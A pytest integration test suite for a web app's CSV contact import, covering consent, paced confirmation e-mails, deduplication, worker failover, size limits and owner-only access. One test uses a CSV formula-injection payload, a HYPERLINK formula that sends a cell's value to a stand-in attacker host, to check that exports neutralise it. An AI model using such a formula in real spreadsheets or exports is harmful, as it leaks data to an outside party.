"""Contact import over real HTTP, on SQLite and PostgreSQL: the upload and its guessed
mapping, the dry run's counts and problem lines, the import with and without a stated
basis (confirmations spaced by the pace and sent through a real SMTP server), never
resubscribing anyone, never a duplicate, a re-run that changes nothing, a worker that
dies mid-way, the 50 MB cap, another owner's import, and formulas in names."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from html import unescape

import pytest
from playwright.sync_api import Page, expect
from sqlalchemy import func, select, update

from widget.core.rawsql import as_datetime
from widget.models import (AuditEntry, Consent, ContactImport, ContactTag, ImportChunk,
                           OutboxMessage, StatusChange, Subscriber)
from widget.subscribers import import_run, imports

from .helpers.browser import log_in
from .helpers.giveback import join, row, unsubscribe_path
from .helpers.http import csrf_post
from .helpers.waiting import wait_until

pytestmark = pytest.mark.real_smtp  # confirmations go to the `smtp` fixture's server
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
MAPPING = {"header": "y", "email": "0", "name": "1", "last_name": "", "lang": "", "tags": "",
           "consent": "confirm", "basis": "", "pace": "600", "extra": ""}


def base(site: str) -> str:
    return f"/dashboard/sites/{site}/imports"


def upload(client, site: str, content: bytes, name: str = "list.csv"):
    """POST the upload form with a file."""
    return client.post(base(site), data={"csrf_token": client.csrf(base(site))},
                       files={"csv_file": (name, content, "text/csv")})


def uploaded(client, site: str, content: bytes) -> int:
    """The id of an import made from `content` (the upload must succeed)."""
    resp = upload(client, site, content)
    assert resp.status_code == 302, resp.text[:500]
    return int(resp.headers["Location"].rsplit("/", 1)[1])


def check(client, site: str, import_id: int, **fields):
    path = f"{base(site)}/{import_id}"
    return csrf_post(client, f"{path}/check", {**MAPPING, **fields}, page=path)


def start(client, site: str, import_id: int):
    path = f"{base(site)}/{import_id}"
    resp = csrf_post(client, f"{path}/start", {}, page=path)
    assert resp.status_code == 302, resp.text[:500]


def work(app, worker: str = "test-worker", **kw) -> None:
    """Run the import worker's steps until nothing is left to check or import."""
    for _ in range(1000):
        if not import_run.step(app, worker, **kw):
            return
    raise AssertionError("the import never ended")


def imported(app, client, site: str, content: bytes, **fields) -> ContactImport:
    """Upload, check, start and run an import to its end; the import row."""
    import_id = uploaded(client, site, content)
    assert check(client, site, import_id, **fields).status_code == 302
    work(app)
    start(client, site, import_id)
    work(app)
    return the_import(client, site, import_id)


def the_import(client, site: str, import_id: int) -> ContactImport:
    """The import as its status endpoint tells it."""
    resp = client.get(f"{base(site)}/{import_id}/status")
    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
    return ContactImport(id=import_id, **resp.json())


def people(query) -> dict[str, Subscriber]:
    return {s.email_normalized: s for s in query(lambda s: s.scalars(select(Subscriber)).all())}


def table(resp) -> list[tuple[str, str]]:
    """The problem lines on an import's page: (line, why)."""
    return [(line, unescape(why)) for line, why in re.findall(
        r'<tr><td class="num">(\d+)</td><td>([^<]*)</td></tr>', resp.text)]


@pytest.fixture
def site(ann, make_site):
    return make_site("ann@example.com", lang="nb")


def test_the_mapping_is_guessed_from_headers_in_four_languages_or_from_addresses():
    assert imports.guess(["E-post", "Fornavn", "Etternavn", "Språk", "Stikkord"], []) == {
        "email": 0, "name": 1, "last_name": 2, "lang": 3, "tags": 4}
    assert imports.guess(["Vorname", "Nachname", "E-Mail-Adresse", "Sprache"], []) == {
        "email": 2, "name": 0, "last_name": 1, "lang": 3, "tags": None}
    assert imports.guess(["Naam", "Taal", "E-mailadres", "Etiketten"], []) == {
        "email": 2, "name": 0, "last_name": None, "lang": 1, "tags": 3}
    assert imports.guess(["Email Address", "First Name", "Last Name", "TAGS"], []) == {
        "email": 0, "name": 1, "last_name": 2, "lang": None, "tags": 3}
    assert imports.guess([], [["Kari", "kari@example.com"], ["Ola", "ola@example.com"]])[
        "email"] == 1
    assert [imports.language(v) for v in ("nb-NO", "no", "Norsk", " DE ", "fr", "")] == [
        "nb", "nb", "nb", "de", None, None]


def test_the_upload_shows_a_preview_with_the_guessed_columns(ann, site, query):
    content = "E-post;Navn;Språk\r\nkari@example.com;Kari Ærlig;nb\r\nola@example.com;Ola;\r\n"
    resp = upload(ann, site, content.encode("cp1252"), "kunder.csv")
    assert resp.status_code == 302
    page = ann.get(resp.headers["Location"])
    assert page.status_code == 200
    assert "read as Windows-1252 text, columns separated by semicolon" in page.text
    assert "<td>Kari Ærlig</td>" in page.text and "3: Språk</th>" in page.text
    for target, column in (("email", "0"), ("name", "1"), ("lang", "2")):
        assert re.search(rf'<select[^>]*name="{target}".*?<option selected value="{column}"',
                         page.text, re.S) or re.search(
            rf'<select[^>]*name="{target}".*?<option value="{column}" selected', page.text,
            re.S), target
    row_ = query(lambda s: s.scalars(select(ContactImport)).one())
    assert row_.mapping == {"encoding": "cp1252", "delimiter": ";", "header": True,
                            "email": 0, "name": 1, "last_name": None, "lang": 2, "tags": None}
    assert row_.actor == "ann@example.com" and row_.status == "uploaded"
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 1


@pytest.mark.parametrize("content, says", [
    (b"", "The file is empty."),
    (b"PK\x03\x04\x14\x00\x06\x00", "not a CSV file: in Excel or Numbers"),
    (b"email\x00\x01\x02", "it holds binary data"),
    (b"email,name\n", "The file has no rows below its header."),
    (b"email\n\x81\x8d\x8f\x90\n", "neither UTF-8 nor Windows-1252"),
])
def test_files_that_cant_be_imported_are_refused_with_the_reason(ann, site, query, content,
                                                                 says):
    resp = upload(ann, site, content)
    assert resp.status_code == 422 and says in unescape(resp.text)
    assert query(lambda s: s.scalar(select(func.count()).select_from(ContactImport))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0


def test_the_mapping_form_explains_what_is_missing(ann, site):
    import_id = uploaded(ann, site, b"email,name\nkari@example.com,Kari\n")
    resp = check(ann, site, import_id, email="")
    assert resp.status_code == 422 and "Choose the column with the e-mail addresses." in resp.text
    resp = check(ann, site, import_id, consent="stated", basis="  ")
    assert resp.status_code == 422 and "Say where and how they agreed" in resp.text
    resp = check(ann, site, import_id, name="0")
    assert resp.status_code == 422 and "That column goes to “E-mail” already." in unescape(
        resp.text)
    resp = check(ann, site, import_id, extra="x" * 70)
    assert resp.status_code == 422 and "A tag is at most 64 characters" in unescape(resp.text)


def test_the_dry_run_counts_every_row_and_reports_bad_lines_writing_nothing(
        app, ann, make_client, site, query):
    visitor = make_client()
    for email, name in (("same@example.com", "Same"), ("renamed@example.com", "Old"),
                        ("gone@example.com", "Gone")):
        assert join(visitor, site, email, name=name).status_code == 200
    assert visitor.post(unsubscribe_path(app, row(query, "gone@example.com"))).status_code == 200
    before = people(query)
    content = ("email,name\n"
               "new@example.com,New\n"  # line 2
               "same@example.com,Same\n"
               "renamed@example.com,New name\n"
               "not-an-address,Nobody\n"  # line 5
               "gone@example.com,Gone\n"
               "NEW@Example.com,Again\n"  # line 7: the address of line 2
               "\n"
               ",No address\n")  # line 9
    import_id = uploaded(ann, site, content.encode())
    assert check(ann, site, import_id).status_code == 302
    assert the_import(ann, site, import_id).status == "checking"
    work(app)
    done = the_import(ann, site, import_id)
    assert (done.status, done.rows, done.done) == ("checked", 7, 7)
    assert (done.new, done.updated, done.unchanged, done.invalid) == (1, 1, 2, 3)
    page = ann.get(f"{base(site)}/{import_id}")
    assert ("5", "An email address must have an @-sign.") in \
        table(page)
    assert ("7", "Same address as line 2: this line is left out.") in table(page)
    assert ("9", "No e-mail address.") in table(page)
    assert ("6", "Unsubscribed earlier: stays unsubscribed, and gets no e-mail.") in table(page)
    assert "Start import" in page.text
    after = people(query)
    assert after.keys() == before.keys()
    assert [(p.name, p.status) for p in after.values()] == [
        (p.name, p.status) for p in before.values()]


def test_a_stated_basis_imports_confirmed_contacts_with_their_consent(app, ann, site, query):
    basis = "Ticked “Send me the newsletter” when ordering in our shop, 2024."
    content = ("Email,First name,Last name,Language,Tags\n"
               "kari@example.com,Kari,Nordmann,en,\"VIP, Oslo\"\n"
               "ola@example.com,Ola,,,\n")
    done = imported(app, ann, site, content.encode(), consent="stated", basis=basis,
                    name="1", last_name="2", lang="3", tags="4", extra="Shop customers")
    assert (done.status, done.new, done.invalid) == ("done", 2, 0)
    found = people(query)
    kari, ola = found["kari@example.com"], found["ola@example.com"]
    assert (kari.status, kari.name, kari.lang) == ("confirmed", "Kari Nordmann", "en")
    assert (ola.status, ola.name, ola.lang) == ("confirmed", "Ola", "nb")  # the site's
    assert kari.ref_code and ola.ref_code
    consents = query(lambda s: s.execute(select(Consent.subscriber_id, Consent.basis,
                                                Consent.text, Consent.given)).all())
    assert sorted(consents) == sorted([(kari.id, "import", basis, True),
                                       (ola.id, "import", basis, True)])
    assert query(lambda s: s.execute(select(StatusChange.status, StatusChange.via)
                                     .where(StatusChange.subscriber_id == kari.id)).all()) == [
        ("confirmed", "import")]
    tagged = query(lambda s: s.execute(select(ContactTag.subscriber_id, ContactTag.tag)).all())
    assert sorted(tagged) == sorted([(kari.id, "vip"), (kari.id, "oslo"),
                                     (kari.id, "shop customers"), (ola.id, "shop customers")])
    assert query(lambda s: s.scalar(select(func.count()).select_from(OutboxMessage))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0
    entry = query(lambda s: s.scalars(select(AuditEntry)).one())
    assert (entry.actor, entry.action, entry.count) == ("ann@example.com", "import", 2)
    assert entry.detail == "list.csv: 2 new, 0 updated, 0 unchanged, 0 invalid"
    page = ann.get(f"{base(site)}/{done.id}")
    assert "What the import did" in page.text and "Imported</span>" in page.text
    listing = ann.get(base(site))
    assert "list.csv</a>" in listing.text and "ann@example.com" in listing.text


@pytest.mark.parametrize("app_config", [{"MAIL_PER_ADDRESS_DAY": 2}], indirect=True)
def test_without_a_basis_contacts_wait_and_confirmations_are_paced(app, ann, site, query, smtp,
                                                                   worker):
    content = ("email\nfirst@example.com\nsecond@example.com\n"
               "box+1@example.com\nbox+2@example.com\nbox+3@example.com\n")
    import_id = uploaded(ann, site, content.encode())
    assert check(ann, site, import_id, name="", pace="60").status_code == 302
    wait_until(lambda: the_import(ann, site, import_id).status == "checked", "the check")
    start(ann, site, import_id)
    done = wait_until(lambda: (found := the_import(ann, site, import_id)).status == "done"
                      and found, "the import")
    assert (done.new, done.invalid) == (5, 0)
    found = people(query)
    assert {p.status for p in found.values()} == {"pending"}
    began = as_datetime(query(lambda s: s.get(ContactImport, import_id).started_at))
    mail = query(lambda s: s.execute(select(OutboxMessage.subscriber_id,
                                            OutboxMessage.next_attempt_at)
                                     .where(OutboxMessage.kind == "confirm")).all())
    due = {subscriber_id: as_datetime(at) for subscriber_id, at in mail}
    # The k-th new contact's e-mail is due k minutes after the start (60 an hour); the
    # third address of one mailbox gets none (two a day per mailbox).
    ids = [found[e].id for e in ("second@example.com", "box+1@example.com",
                                 "box+2@example.com")]
    assert [due[i] - began for i in ids] == [timedelta(minutes=k) for k in (1, 2, 3)]
    assert found["box+3@example.com"].id not in due
    assert found["box+3@example.com"].confirm_sent_at is None
    assert as_datetime(found["box+1@example.com"].confirm_sent_at) == due[ids[1]]
    # The first is due at once: the worker sends it through the real SMTP server.
    (message,) = smtp.mailbox.wait(1)
    assert message["To"].addresses[0].addr_spec == "first@example.com"
    assert "/confirm/" in message.get_body(("plain",)).get_content()
    assert query(lambda s: s.execute(select(StatusChange.via)).scalars().all()) == ["import"] * 5


def test_an_import_never_resubscribes_or_mails_someone_who_unsubscribed(app, ann, make_client,
                                                                      site, query):
    visitor = make_client()
    assert join(visitor, site, "gone@example.com", name="Gone").status_code == 200
    assert visitor.post(unsubscribe_path(app, row(query, "gone@example.com"))).status_code == 200
    gone = row(query, "gone@example.com")
    mail_before = query(lambda s: s.scalar(select(func.count()).select_from(OutboxMessage)))
    for consent in ("stated", "confirm"):
        done = imported(app, ann, site, b"email,name\nGONE@example.com,Back Again\n",
                        consent=consent, basis="They bought from us." * (consent == "stated"),
                        extra="returning")
        assert (done.new, done.updated, done.unchanged) == (0, 0, 1)
        page = ann.get(f"{base(site)}/{done.id}")
        assert ("2", "Unsubscribed earlier: stays unsubscribed, and gets no e-mail.") in \
            table(page)
    after = row(query, "gone@example.com")
    assert (after.status, after.name, after.updated_at) == ("unsubscribed", "Gone",
                                                             gone.updated_at)
    assert query(lambda s: s.scalar(select(func.count()).select_from(ContactTag))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(Consent)
                                    .where(Consent.basis == "import"))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(OutboxMessage))) == \
        mail_before


def test_addresses_are_never_duplicated_and_a_second_run_changes_nothing(app, ann, make_client,
                                                                         site, query):
    assert join(make_client(), site, "Kari@Example.com", name="Kari").status_code == 200
    content = ("email,name,tags\n"
               "KARI@example.com,Kari N,reader\n"  # the sign-up's address in other case
               "ola@example.com,Ola,\n"
               "Ola@Example.COM,Ola again,\n"
               "ola+news@example.com,Ola,\n")  # another address, as for sign-ups
    first = imported(app, ann, site, content.encode(), tags="2")
    assert (first.new, first.updated, first.unchanged, first.invalid) == (2, 1, 0, 1)
    found = people(query)
    assert sorted(found) == ["kari@example.com", "ola+news@example.com", "ola@example.com"]
    assert (found["kari@example.com"].name, found["kari@example.com"].email) == (
        "Kari N", "Kari@example.com")  # as the sign-up gave it (the domain lower-cased)
    again = imported(app, ann, site, content.encode(), tags="2")
    assert (again.new, again.updated, again.unchanged, again.invalid) == (0, 0, 3, 1)
    assert len(people(query)) == 3
    assert query(lambda s: s.scalar(select(func.count()).select_from(ContactTag))) == 1


def test_a_worker_that_dies_mid_way_is_taken_over_without_duplicates(app, ann, site, query):
    lines = [f"person{n}@example.com,Person {n}" for n in range(1, 11)]
    lines.insert(8, "PERSON1@example.com,Again")  # line 10: the address of line 2
    content = "email,name\n" + "\n".join(lines) + "\n"
    import_id = uploaded(ann, site, content.encode())
    assert check(ann, site, import_id).status_code == 302
    work(app, batch=4)
    start(ann, site, import_id)
    assert import_run.step(app, "first", batch=4, budget=0) == 5  # one batch, then it "dies"
    assert the_import(ann, site, import_id).done == 4 and len(people(query)) == 4
    page = ann.get(f"{base(site)}/{import_id}")  # a reload shows where it is
    assert re.search(r'<progress id="import-progress"[^>]*max="11" value="4"', page.text)
    assert import_run.step(app, "second", batch=4) == 0  # the first one's lease holds
    query(lambda s: (s.execute(update(ContactImport).values(
        lease_until=ContactImport.started_at - timedelta(seconds=1))), s.commit()))
    assert import_run.step(app, "second", batch=4, budget=0) == 5  # takes over: one batch
    # The first worker wakes up and tries its next batch: it no longer holds the import,
    # so nothing of that batch is written.
    with app.app_context():
        stale = app.extensions["widget.import_jobs"]["first"]
        assert import_run._batch(stale, "first", 4) == (0, False)
    assert the_import(ann, site, import_id).done == 8 and len(people(query)) == 8
    work(app, "second", batch=4)
    done = the_import(ann, site, import_id)
    assert (done.status, done.done, done.new, done.invalid) == ("done", 11, 10, 1)
    assert len(people(query)) == 10
    assert ("10", "Same address as line 2: this line is left out.") in table(
        ann.get(f"{base(site)}/{import_id}"))
    assert query(lambda s: s.scalar(select(func.count()).select_from(StatusChange))) == 10
    assert query(lambda s: s.scalar(select(func.count()).select_from(AuditEntry))) == 1


def test_a_file_unreadable_past_its_first_megabyte_stops_the_check_with_the_line(
        app, ann, site, query):
    rows = "".join(f"person{n}@example.com,Person {n}\n" for n in range(40_000))  # > 1 MiB
    content = f"email,name\n{rows}late@example.com,\"{'x' * 200_000}\"\n".encode()
    import_id = uploaded(ann, site, content)
    assert check(ann, site, import_id).status_code == 302
    work(app)
    stopped = the_import(ann, site, import_id)
    assert stopped.status == "failed" and stopped.error.startswith(
        "Line 40002: the file can't be read from here on (field larger than field limit")
    page = ann.get(f"{base(site)}/{import_id}")
    assert "The check stopped" in page.text and "Start import" not in page.text
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(Subscriber))) == 0


def test_an_import_that_stops_mid_way_keeps_whole_batches_and_says_why(app, ann, site, query):
    rows = "".join(f"person{n:04}@example.com,Person {n}\n" for n in range(1000))
    import_id = uploaded(ann, site, f"email,name\n{rows}".encode())
    assert check(ann, site, import_id).status_code == 302
    work(app)
    start(ann, site, import_id)
    # The stored file breaks after the check (a byte no UTF-8 has, in line 902): whole
    # batches before it are imported (the file is read a few kB ahead), none after.
    broken = f"email,name\n{rows}".encode().replace(b"person0900@", b"person0900\xff@")
    query(lambda s: (s.execute(update(ImportChunk).values(data=broken)), s.commit()))
    work(app, batch=100)
    stopped = the_import(ann, site, import_id)
    assert stopped.status == "failed" and 0 < stopped.done <= 900 and stopped.done % 100 == 0
    assert stopped.new == stopped.done == len(people(query))
    assert re.fullmatch(r"After line \d+, the file is no longer UTF-8 text\. Fix it and "
                        r"upload it again\.", stopped.error)
    page = ann.get(f"{base(site)}/{import_id}")
    assert "The import stopped" in page.text and "import the same file again" in page.text
    entry = query(lambda s: s.scalars(select(AuditEntry)).one())
    assert (entry.count, entry.detail) == (stopped.new, f"list.csv: {stopped.new} new, "
                                                        "0 updated, 0 unchanged, 0 invalid")
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0


def test_files_over_50_mb_are_refused_with_a_clear_message(ann, site, query):
    line = b"someone.with.a.long.address@example.com,Some One\n"
    big = b"email,name\n" + line * ((50 << 20) // len(line) + 1)
    resp = upload(ann, site, big)
    assert resp.status_code == 422 and "The file is larger than 50 MB." in resp.text
    assert query(lambda s: s.scalar(select(func.count()).select_from(ContactImport))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0
    far = upload(ann, site, big + line * 200_000)  # refused before it is read
    assert far.status_code == 413 and "The file is larger than 50 MB." in far.text


def test_another_owners_import_is_not_found(app, ann, make_client, make_site, site):
    import_id = uploaded(ann, site, b"email\nkari@example.com\n")
    bob = make_client()
    make_site("bob@example.com")
    assert bob.login("bob@example.com").status_code == 302
    token = bob.csrf("/dashboard/sites/new")
    for action in ("", "/status"):
        assert bob.get(f"{base(site)}/{import_id}{action}").status_code == 404
    for action in ("/check", "/start", "/discard"):
        resp = bob.post(f"{base(site)}/{import_id}{action}",
                        data={**MAPPING, "csrf_token": token})
        assert resp.status_code == 404
    assert bob.get(base(site)).status_code == 404
    assert the_import(ann, site, import_id).status == "uploaded"


def test_formulas_in_names_are_stored_as_text_and_neutralised_on_export(app, ann, site, query):
    content = io.StringIO()
    csv.writer(content).writerows([["email", "name"], ["deal@example.com", FORMULA],
                                   ["plus@example.com", "+1 555 0100"]])
    done = imported(app, ann, site, content.getvalue().encode(), consent="stated",
                    basis="Customers who asked for news.")
    assert done.new == 2
    assert row(query, "deal@example.com").name == FORMULA
    exported = ann.get(f"/dashboard/sites/{site}/contacts.csv")
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))}
    assert rows["deal@example.com"]["name"] == "'" + FORMULA
    assert rows["plus@example.com"]["name"] == "'+1 555 0100"


def test_an_import_not_started_can_be_discarded_with_its_file(app, ann, site, query):
    import_id = uploaded(ann, site, b"email\nkari@example.com\n")
    path = f"{base(site)}/{import_id}"
    resp = csrf_post(ann, f"{path}/discard", {}, page=path)
    assert resp.status_code == 302 and resp.headers["Location"].endswith("?done=discarded")
    assert "The import was discarded, with its file." in ann.get(resp.headers["Location"]).text
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0
    assert ann.get(path).status_code == 404
    done = imported(app, ann, site, b"email\nkari@example.com\n", name="")
    resp = csrf_post(ann, f"{base(site)}/{done.id}/discard", {},
                     page=f"{base(site)}/{done.id}")
    assert resp.status_code == 302 and the_import(ann, site, done.id).status == "done"


def test_the_contacts_page_links_to_the_import(ann, site):
    page = ann.get(f"/dashboard/sites/{site}/contacts")
    assert f'href="{base(site)}">Import' in page.text


@pytest.mark.browser
def test_chromium_follows_an_import_from_upload_to_its_end(page: Page, demo, tmp_path):
    """The pages in a real browser: the bar moves by import.js (no inline script, nothing
    the pages' policy refuses) and the page shows the result once it ends."""
    refused = []  # what the pages' policy refused, and script errors
    page.on("console", lambda m: refused.append(m.text) if "Security Policy" in m.text
            else None)
    page.on("pageerror", lambda error: refused.append(str(error)))
    log_in(page, demo)
    page.goto(f"{demo['base']}/dashboard/sites/demo-blog/contacts")
    page.get_by_role("link", name="Import").click()
    rows = "".join(f"reader{n}@example.com;Reader {n}\n" for n in range(20_000))
    (tmp_path / "lesere.csv").write_text(f"E-post;Navn\n{rows}bad-address;Nobody\n")
    page.get_by_label("CSV file").set_input_files(tmp_path / "lesere.csv")
    page.get_by_role("button", name="Upload").click()
    expect(page.get_by_label("E-mail", exact=True)).to_have_value("0")
    expect(page.get_by_label("Name (or first name)")).to_have_value("1")
    page.get_by_label("They agreed to receive my e-mails. I state the basis:").check()
    page.get_by_role("textbox", name="The basis").fill(
        "Readers of the printed magazine who asked for news.")
    page.get_by_role("button", name="Check (dry run)").click()
    expect(page.locator("#import-progress")).to_be_visible()  # a check takes a while
    expect(page.get_by_role("heading", name="What the import would do")).to_be_visible(
        timeout=30000)  # import.js saw the check end and showed the page afresh
    expect(page.locator("table.problems")).to_contain_text(
        "An email address must have an @-sign.")
    page.get_by_role("button", name="Start import").click()
    expect(page.locator("#import-progress")).to_be_visible()
    expect(page.get_by_role("heading", name="What the import did")).to_be_visible(timeout=60000)
    expect(page.locator("#import-counts")).to_contain_text("20,000")
    assert refused == []
